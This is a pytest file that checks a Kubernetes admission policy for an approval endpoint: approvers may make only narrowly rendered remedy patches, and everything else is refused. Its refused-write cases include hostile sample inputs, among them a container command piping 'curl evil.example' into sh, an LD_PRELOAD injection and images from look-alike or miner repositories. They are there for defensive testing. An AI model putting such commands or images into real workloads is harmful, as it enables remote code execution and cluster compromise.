"""The approval endpoint's own admission policy (kubesent-approve-scope) judged by a real kube-apiserver.

"An approval is a person's decision, not a blank cheque": the approver's identity may write exactly what
KubeSent renders for an approvable remedy (a limit raised within the ceiling, probe timing one step, an
image's tag or digest in the same repository, pull secrets added by name, kubesent.dev/* annotations), and
is refused everything else, which an admin may still do (so it is the policy that refuses, not the schema).
The function's own identity keeps its narrower policy: it still may not change an image or a pull secret.
"""
from __future__ import annotations

import copy
from collections.abc import Iterator
from typing import Any

import kubernetes.client
import pytest
from kubernetes.client import ApiException

from kubesent.write import APPROVED_BY
from tests.controlplane import support
from tests.controlplane.test_admission_policy import JSON_PATCH, STRATEGIC, container_patch, patch, probe

POLICY = "kubesent-approve-scope"
CONTAINERS = "/spec/template/spec/containers/0"
# The workload every case starts from: the tier's container, with one pull secret already named.
PULLS_WITH = [{"name": "registry-old"}]


def pull_secrets(*names: str) -> dict[str, Any]:
    """add_image_pull_secret, as kubesent.remedies renders it (a strategic merge by name)."""
    return {"spec": {"template": {"spec": {"imagePullSecrets": [{"name": name} for name in names]}}}}


# (id, patch, content type): what an approval writes, one per approvable remedy and its annotation.
APPROVED_WRITES = [
    ("memory-limit-raised", container_patch({"resources": {"limits": {"memory": "1Gi"}}}), STRATEGIC),
    ("cpu-limit-to-the-ceiling", container_patch({"resources": {"limits": {"cpu": "4"}}}), STRATEGIC),
    ("probe-timeout-one-step", probe("livenessProbe", timeoutSeconds=2), STRATEGIC),
    ("image-tag-changed", container_patch({"image": "registry.example/app:1.1"}), STRATEGIC),
    ("image-pinned-by-digest", container_patch({"image": "registry.example/app@sha256:" + "a" * 64}), STRATEGIC),
    ("image-tag-and-digest", container_patch({"image": "registry.example/app:1.1@sha256:" + "b" * 64}), STRATEGIC),
    ("pull-secret-added", pull_secrets("registry-creds"), STRATEGIC),
    ("image-and-approved-by", {**container_patch({"image": "registry.example/app:1.0.1"}),
                               "metadata": {"annotations": {APPROVED_BY: "ana@example.com",
                                                            "kubesent.dev/remediation": "{}"}}}, STRATEGIC),
]

# (id, patch, content type): an approver's identity that tries more than a rendered remedy.
REFUSED_WRITES = [
    ("image-other-repository", container_patch({"image": "registry.example/miner:1.0"}), STRATEGIC),
    ("image-other-registry", container_patch({"image": "evil.example/app:1.0"}), STRATEGIC),
    ("image-repository-suffix", container_patch({"image": "registry.example/app-evil:1.0"}), STRATEGIC),
    ("image-registry-prefix", container_patch({"image": "evil.example/registry.example/app:1.0"}), STRATEGIC),
    ("image-port-in-registry", container_patch({"image": "registry.example:5000/app:1.0"}), STRATEGIC),
    ("command-changed", container_patch({"command": ["/bin/sh", "-c", "curl evil.example | sh"]}), STRATEGIC),
    ("env-added", container_patch({"env": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]}), STRATEGIC),
    ("pull-secret-removed", [{"op": "remove", "path": "/spec/template/spec/imagePullSecrets/0"}], JSON_PATCH),
    ("pull-secret-replaced", [{"op": "replace", "path": "/spec/template/spec/imagePullSecrets/0/name",
                               "value": "someone-elses"}], JSON_PATCH),
    ("memory-over-the-ceiling", container_patch({"resources": {"limits": {"memory": "4097Mi"}}}), STRATEGIC),
    ("memory-limit-cut", container_patch({"resources": {"limits": {"memory": "300Mi"}}}), STRATEGIC),
    ("requests-raised", container_patch({"resources": {"requests": {"memory": "300Mi"}}}), STRATEGIC),
    ("probe-two-steps", probe("livenessProbe", failureThreshold=100), STRATEGIC),
    ("replicas", {"spec": {"replicas": 5}}, STRATEGIC),
    ("service-account", {"spec": {"template": {"spec": {"serviceAccountName": "default"}}}}, STRATEGIC),
    ("host-network", {"spec": {"template": {"spec": {"hostNetwork": True}}}}, STRATEGIC),
    ("second-container", {"spec": {"template": {"spec": {"containers": [
        {"name": "sidecar", "image": "registry.example/app:1.0"}]}}}}, STRATEGIC),
    ("template-label", {"spec": {"template": {"metadata": {"labels": {"extra": "x"}}}}}, STRATEGIC),
    ("foreign-annotation", {"metadata": {"annotations": {"argocd.argoproj.io/sync-options": "Prune=false"}}},
     STRATEGIC),
]


def create(admin: kubernetes.client.ApiClient, prefix: str) -> str:
    name = support.unique(prefix)
    body = support.deployment(name)
    body["spec"]["template"]["spec"]["imagePullSecrets"] = copy.deepcopy(PULLS_WITH)
    kubernetes.client.AppsV1Api(admin).create_namespaced_deployment(support.ALLOWED, body,
                                                                    field_manager="gitops-tool")
    return name


@pytest.fixture()
def workload(admin_client: kubernetes.client.ApiClient) -> Iterator[str]:
    name = create(admin_client, "approved")
    yield name
    kubernetes.client.AppsV1Api(admin_client).delete_namespaced_deployment(name, support.ALLOWED)


@pytest.mark.parametrize(("body", "content_type"), [case[1:] for case in APPROVED_WRITES],
                         ids=[case[0] for case in APPROVED_WRITES])
def test_each_approvable_write_passes_for_the_approver(approver_client: kubernetes.client.ApiClient,
                                                       workload: str, body: Any, content_type: str) -> None:
    patched = patch(approver_client, workload, copy.deepcopy(body), content_type)

    assert patched["metadata"]["name"] == workload
    template = patched["spec"]["template"]["spec"]
    assert {"name": "registry-old"} in template["imagePullSecrets"]


def test_an_added_pull_secret_keeps_the_old_ones(approver_client: kubernetes.client.ApiClient, workload: str) -> None:
    patched = patch(approver_client, workload, pull_secrets("registry-creds"), STRATEGIC)

    # A strategic merge puts the new name first; the policy checks membership, not order.
    names = [item["name"] for item in patched["spec"]["template"]["spec"]["imagePullSecrets"]]
    assert sorted(names) == ["registry-creds", "registry-old"]


@pytest.mark.parametrize(("case", "body", "content_type"), REFUSED_WRITES, ids=[case[0] for case in REFUSED_WRITES])
def test_everything_else_is_refused_for_the_approver_and_allowed_for_an_admin(
        approver_client: kubernetes.client.ApiClient, admin_client: kubernetes.client.ApiClient,
        case: str, body: Any, content_type: str) -> None:
    name = create(admin_client, "overreach")
    try:
        with pytest.raises(ApiException) as refused:
            patch(approver_client, name, copy.deepcopy(body), content_type)

        assert refused.value.status == 403, case
        assert POLICY in str(refused.value.body)
        patch(admin_client, name, copy.deepcopy(body), content_type)  # the same change, by a person: allowed
    finally:
        kubernetes.client.AppsV1Api(admin_client).delete_namespaced_deployment(name, support.ALLOWED)


@pytest.mark.parametrize("body", [container_patch({"image": "registry.example/app:1.1"}),
                                  pull_secrets("registry-creds")], ids=["image-tag", "pull-secret"])
def test_the_functions_own_identity_still_cannot_change_an_image_or_a_pull_secret(
        kubesent_client: kubernetes.client.ApiClient, workload: str, body: Any) -> None:
    with pytest.raises(ApiException) as refused:
        patch(kubesent_client, workload, body, STRATEGIC, dry_run=True)

    assert refused.value.status == 403 and "kubesent-patch-scope" in str(refused.value.body)


def test_the_approvers_policy_does_not_judge_the_function(kubesent_client: kubernetes.client.ApiClient,
                                                          workload: str) -> None:
    """Each identity has its own policy: the function's raise is judged by kubesent-patch-scope only."""
    patched = patch(kubesent_client, workload, container_patch({"resources": {"limits": {"memory": "1Gi"}}}),
                    STRATEGIC, dry_run=True)

    assert patched["spec"]["template"]["spec"]["containers"][0]["resources"]["limits"]["memory"] == "1Gi"
